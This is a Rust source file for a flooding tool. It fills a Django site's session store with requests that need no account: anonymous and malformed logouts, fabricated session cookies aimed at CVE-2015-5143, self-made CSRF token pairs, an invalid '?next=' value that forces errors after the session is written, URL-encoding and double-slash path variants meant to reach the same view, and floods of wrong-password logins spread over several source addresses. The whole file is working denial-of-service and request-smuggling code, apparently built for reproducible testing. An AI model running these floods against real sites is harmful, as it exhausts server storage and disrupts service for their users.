//! Floods: what a client without an account can send to fill a session store.
//!
//! A request's bytes depend on the seed and its number alone, and its connection on its number
//! alone, so that a run can be repeated.

use std::collections::BTreeMap;
use std::fmt;
use std::sync::atomic::{AtomicU64, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use super::http::{Connection, Request, Response};
use super::{Target, source};

/// How long a single request may take, before it counts as an error.
const REQUEST_TIMEOUT: Duration = Duration::from_secs(30);
/// Every so many logouts, `?next=` makes the view fail after it has written.
const FAILING_EVERY: u64 = 8;

/// What the flood sends.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Scenario {
    /// Logouts without a session, in every spelling that reaches the view.
    AnonymousLogout,
    /// The same, an eighth of them with `?next=http://[`, over which Django 1.7 stumbles after
    /// the session was saved: status 500, a record, and no cookie that tells of it.
    FailingLogout,
    /// Logouts as the form of a page sends them: POST, the CSRF token in the body.
    FormLogout,
    /// Logouts in every spelling, each with a fresh invented session cookie.
    MadeUpLogout,
    /// A page that reads its session, each request with a fresh invented session cookie:
    /// CVE-2015-5143.
    MadeUpRead,
    /// Login attempts with a wrong password.
    FailingLogin,
    /// A page that writes to the session for anybody, as a shopping cart does.
    AnonymousWrite,
}

impl Scenario {
    pub const ALL: [Self; 7] = [
        Self::AnonymousLogout,
        Self::FailingLogout,
        Self::FormLogout,
        Self::MadeUpLogout,
        Self::MadeUpRead,
        Self::FailingLogin,
        Self::AnonymousWrite,
    ];

    /// Its name on the command line.
    pub const fn word(self) -> &'static str {
        match self {
            Self::AnonymousLogout => "anonymous-logout",
            Self::FailingLogout => "failing-logout",
            Self::FormLogout => "form-logout",
            Self::MadeUpLogout => "made-up-logout",
            Self::MadeUpRead => "made-up-read",
            Self::FailingLogin => "failing-login",
            Self::AnonymousWrite => "anonymous-write",
        }
    }
}

/// The ways to the same logout view, each of which adds a record on a vulnerable release.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Spelling {
    Get,
    Head,
    Options,
    /// With a CSRF pair that the client made itself, in cookie and header; the body is empty.
    Post,
    EncodedLetter,
    EncodedSlash,
    /// The `$` of a URL pattern matches before a final newline.
    FinalNewline,
    /// A server may take the first segment for an authority and drop it, or collapse the slashes.
    DoubleSlash,
    AbsoluteForm,
}

impl Spelling {
    pub const ALL: [Self; 9] = [
        Self::Get,
        Self::Head,
        Self::Options,
        Self::Post,
        Self::EncodedLetter,
        Self::EncodedSlash,
        Self::FinalNewline,
        Self::DoubleSlash,
        Self::AbsoluteForm,
    ];

    const fn method(self) -> &'static str {
        match self {
            Self::Head => "HEAD",
            Self::Options => "OPTIONS",
            Self::Post => "POST",
            Self::Get
            | Self::EncodedLetter
            | Self::EncodedSlash
            | Self::FinalNewline
            | Self::DoubleSlash
            | Self::AbsoluteForm => "GET",
        }
    }

    fn target(self, host: &str) -> String {
        match self {
            Self::Get | Self::Head | Self::Options | Self::Post => "/accounts/logout/".to_owned(),
            Self::EncodedLetter => "/accounts/%6Cogout/".to_owned(),
            Self::EncodedSlash => "/accounts%2Flogout/".to_owned(),
            Self::FinalNewline => "/accounts/logout/%0A".to_owned(),
            Self::DoubleSlash => "//accounts/logout/".to_owned(),
            Self::AbsoluteForm => format!("http://{host}/accounts/logout/"),
        }
    }
}

/// A flood, ready to run.
#[derive(Clone, Debug)]
pub struct Flood {
    pub target: Target,
    pub scenario: Scenario,
    /// Sent in all, unless the time limit ends the flood before.
    pub requests: u64,
    pub connections: usize,
    /// Source addresses, from 127.0.0.2 on, shared out among the connections.
    pub sources: u8,
    pub seed: u64,
    pub time_limit: Duration,
    /// The name of the session cookie.
    pub cookie: String,
}

impl Flood {
    pub fn new(target: Target, scenario: Scenario) -> Self {
        Self {
            target,
            scenario,
            requests: 2_000,
            connections: 64,
            sources: 8,
            seed: 1,
            time_limit: Duration::from_secs(120),
            cookie: "sessionid".to_owned(),
        }
    }

    pub fn run(&self) -> Report {
        self.run_with(&AtomicU64::new(0))
    }

    /// Counts the requests in `progress` as they are done.
    pub fn run_with(&self, progress: &AtomicU64) -> Report {
        let started = Instant::now();
        let connections = self.connections.max(1);
        let mut report = thread::scope(|scope| {
            let threads: Vec<_> = (0..connections)
                .map(|index| scope.spawn(move || self.connection(index, started, progress)))
                .collect();
            threads.into_iter().fold(Report::default(), |sum, thread| {
                sum.and(thread.join().expect("a connection does not panic"))
            })
        });
        report.elapsed = started.elapsed();
        report.latencies.sort_unstable();
        report
    }

    /// What one of the connections does: every so-manieth request.
    fn connection(&self, index: usize, started: Instant, progress: &AtomicU64) -> Report {
        let end = started + self.time_limit;
        let mut connection = Connection::new(self.target, source(index, self.sources));
        let mut report = Report::default();
        for number in (index as u64..self.requests).step_by(self.connections.max(1)) {
            let asked = Instant::now();
            if asked >= end {
                break;
            }
            let request = self.request(number);
            let result = connection.exchange(&request, end.min(asked + REQUEST_TIMEOUT));
            report.latencies.push(asked.elapsed());
            match result {
                Ok(response) => report.answered(&response, &self.cookie),
                Err(error) => report.failed(&error),
            }
            progress.fetch_add(1, Ordering::Relaxed);
        }
        report.resent = connection.resent;
        report
    }

    fn request(&self, number: u64) -> Request {
        let mut random = Random::new(self.seed, number);
        let made_up = format!("{}={}", self.cookie, random.key());
        let spelling = Spelling::ALL[(number % Spelling::ALL.len() as u64) as usize];
        match self.scenario {
            Scenario::AnonymousLogout => self.logout(spelling, "", None, &mut random),
            Scenario::FailingLogout => {
                // Not in step with the spellings, so that each of them meets it.
                let query = match random.below(2 * FAILING_EVERY) {
                    0 => "?next=http://[",
                    1 => "?next=http%3A%2F%2F%5B",
                    _ => "",
                };
                self.logout(spelling, query, None, &mut random)
            }
            Scenario::FormLogout => {
                self.form("/accounts/logout/", "", &format!("{:016x}", random.next()))
            }
            Scenario::MadeUpLogout => self.logout(spelling, "", Some(made_up), &mut random),
            Scenario::MadeUpRead => self.plain("GET", "/read/", &[("Cookie", &made_up)]),
            Scenario::FailingLogin => {
                let fields = format!("&username=user{}&password=wrong", random.below(32));
                self.form("/accounts/login/", &fields, &format!("{:016x}", random.next()))
            }
            Scenario::AnonymousWrite => self.plain("GET", "/write/", &[]),
        }
    }

    fn logout(
        &self,
        spelling: Spelling,
        query: &str,
        cookie: Option<String>,
        random: &mut Random,
    ) -> Request {
        let target = spelling.target(&self.target.to_string()) + query;
        let token = format!("{:016x}", random.next());
        let mut cookies: Vec<String> = cookie.into_iter().collect();
        let mut headers = Vec::new();
        if spelling == Spelling::Post {
            cookies.push(format!("csrftoken={token}"));
            headers.push(("X-CSRFToken", token.as_str()));
            headers.push(("Content-Length", "0"));
        }
        let cookies = cookies.join("; ");
        if !cookies.is_empty() {
            headers.push(("Cookie", &cookies));
        }
        self.plain(spelling.method(), &target, &headers)
    }

    /// `token` goes into the cookie and into the body; Django compares them and nothing else.
    fn form(&self, path: &str, fields: &str, token: &str) -> Request {
        let body = format!("csrfmiddlewaretoken={token}{fields}");
        let mut request = self.plain(
            "POST",
            path,
            &[
                ("Cookie", &format!("csrftoken={token}")),
                ("Content-Type", "application/x-www-form-urlencoded"),
                ("Content-Length", &body.len().to_string()),
            ],
        );
        request.bytes.extend_from_slice(body.as_bytes());
        request
    }

    fn plain(&self, method: &str, target: &str, headers: &[(&str, &str)]) -> Request {
        let mut head = format!("{method} {target} HTTP/1.1\r\nHost: {}\r\n", self.target);
        for (name, value) in headers {
            head.extend([name, ": ", value, "\r\n"]);
        }
        head.push_str("\r\n");
        Request { bytes: head.into_bytes(), head: method == "HEAD" }
    }
}

/// What a response did to the session cookie.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum SessionCookie {
    Untouched,
    Set,
    Deleted,
}

impl SessionCookie {
    pub const ALL: [Self; 3] = [Self::Untouched, Self::Set, Self::Deleted];

    pub const fn word(self) -> &'static str {
        match self {
            Self::Untouched => "untouched",
            Self::Set => "set",
            Self::Deleted => "deleted",
        }
    }

    /// Only an empty value is a deletion: one with a value is a record, whatever its age.
    pub fn of(response: &Response, name: &str) -> Self {
        let value = response.header("set-cookie").filter_map(|line| {
            let (n, value) = line.split(';').next()?.split_once('=')?;
            (n.trim() == name).then(|| value.trim().trim_matches('"'))
        });
        match value.last() {
            None => Self::Untouched,
            Some("") => Self::Deleted,
            Some(_) => Self::Set,
        }
    }
}

/// What came of a flood.
#[derive(Clone, Debug, Default)]
pub struct Report {
    pub by_status: BTreeMap<u16, u64>,
    pub by_cookie: BTreeMap<SessionCookie, u64>,
    /// Requests without a whole response, and why the first of a connection was.
    pub errors: u64,
    pub first_error: Option<String>,
    /// Requests sent a second time, because the server had closed the connection.
    pub resent: u64,
    /// Sorted.
    pub latencies: Vec<Duration>,
    pub elapsed: Duration,
}

impl Report {
    /// Requests, with those that failed.
    pub fn sent(&self) -> u64 {
        self.by_status.values().sum::<u64>() + self.errors
    }

    pub fn with_status(&self, status: u16) -> u64 {
        self.by_status.get(&status).copied().unwrap_or(0)
    }

    pub fn with_cookie(&self, kind: SessionCookie) -> u64 {
        self.by_cookie.get(&kind).copied().unwrap_or(0)
    }

    pub fn refused(&self) -> u64 {
        self.with_status(429)
    }

    pub fn percentile(&self, percent: u32) -> Duration {
        percentile(&self.latencies, percent)
    }

    pub fn per_second(&self) -> u64 {
        (u128::from(self.sent()) * 1_000 / self.elapsed.as_millis().max(1)) as u64
    }

    fn answered(&mut self, response: &Response, cookie: &str) {
        *self.by_status.entry(response.status).or_default() += 1;
        *self.by_cookie.entry(SessionCookie::of(response, cookie)).or_default() += 1;
    }

    fn failed(&mut self, error: &std::io::Error) {
        self.errors += 1;
        self.first_error.get_or_insert_with(|| error.to_string());
    }

    fn and(mut self, other: Self) -> Self {
        for (status, count) in other.by_status {
            *self.by_status.entry(status).or_default() += count;
        }
        for (kind, count) in other.by_cookie {
            *self.by_cookie.entry(kind).or_default() += count;
        }
        self.errors += other.errors;
        self.first_error = self.first_error.or(other.first_error);
        self.resent += other.resent;
        self.latencies.extend(other.latencies);
        self
    }
}

impl fmt::Display for Report {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            "{} requests in {:.1} s, {} a second; p50 {:.1} ms, p99 {:.1} ms",
            self.sent(),
            self.elapsed.as_secs_f64(),
            self.per_second(),
            self.percentile(50).as_secs_f64() * 1e3,
            self.percentile(99).as_secs_f64() * 1e3,
        )?;
        write!(f, "status:")?;
        for (status, count) in &self.by_status {
            write!(f, " {status}: {count}")?;
        }
        write!(f, "\nsession cookie:")?;
        for kind in SessionCookie::ALL {
            write!(f, " {}: {}", kind.word(), self.with_cookie(kind))?;
        }
        write!(f, "\nerrors: {}", self.errors)?;
        if let Some(error) = &self.first_error {
            write!(f, " ({error})")?;
        }
        write!(f, ", sent again: {}", self.resent)
    }
}

/// Of sorted values; the nearest rank.
pub fn percentile(sorted: &[Duration], percent: u32) -> Duration {
    let rank = (sorted.len() * percent as usize).div_ceil(100).max(1);
    sorted.get(rank - 1).copied().unwrap_or_default()
}

/// SplitMix64: enough to make keys that differ, and the same ones in every run.
struct Random(u64);

impl Random {
    fn new(seed: u64, number: u64) -> Self {
        let mut random = Self(seed);
        let start = random.next();
        Self(start ^ number.wrapping_mul(0xD129_0D3A_3F4C_5A4B))
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, bound: u64) -> u64 {
        self.next() % bound
    }

    /// In hexadecimal, and so a key of the right shape for every release.
    fn key(&mut self) -> String {
        format!("{:016x}{:016x}", self.next(), self.next())
    }
}
